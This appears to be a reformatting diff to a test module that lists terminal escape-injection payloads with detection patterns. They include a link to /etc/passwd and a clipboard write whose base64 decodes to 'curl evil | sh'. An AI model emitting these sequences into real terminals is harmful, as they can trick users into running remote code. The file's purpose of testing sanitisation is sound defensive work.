@@ -37,13 +37,17 @@ PAYLOADS: tuple[Payload, ...] = (
     _escape_payload("csi-sgr", "HXSG", ESC + "[31;5m{m}" + ESC + "[0m"),
     _escape_payload("osc-title", "HXTI", ESC + "]0;{m} pwned" + "\x07", b"\x1b]0;HX", b"\x1b]2;HX"),
     _escape_payload(
-        "osc8-link", "HXOL", ESC + "]8;;file:///etc/passwd" + ESC + "\\{m}" + ESC + "]8;;" + ESC
-        + "\\", b"\x1b]8;;file"
+        "osc8-link",
+        "HXOL",
+        ESC + "]8;;file:///etc/passwd" + ESC + "\\{m}" + ESC + "]8;;" + ESC + "\\",
+        b"\x1b]8;;file",
     ),
     _escape_payload("osc52-clip", "HXCL", ESC + "]52;c;{m}Y3VybCBldmlsIHwgc2g=\x07", b"\x1b]52;"),
     _escape_payload("dcs", "HXDC", ESC + "P1$q{m}" + ESC + "\\", b"\x1bP1$q"),
     _escape_payload(
-        "tmux-passthrough", "HXTM", ESC + "Ptmux;" + ESC + ESC + "]0;{m}\x07" + ESC + "\\",
+        "tmux-passthrough",
+        "HXTM",
+        ESC + "Ptmux;" + ESC + ESC + "]0;{m}\x07" + ESC + "\\",
         b"\x1bPtmux;",
     ),
     Payload("c1-csi", "HXC1", "\u009b31mHXC1\u009b0m", (b"\xc2\x9b", b"\x9b31m")),
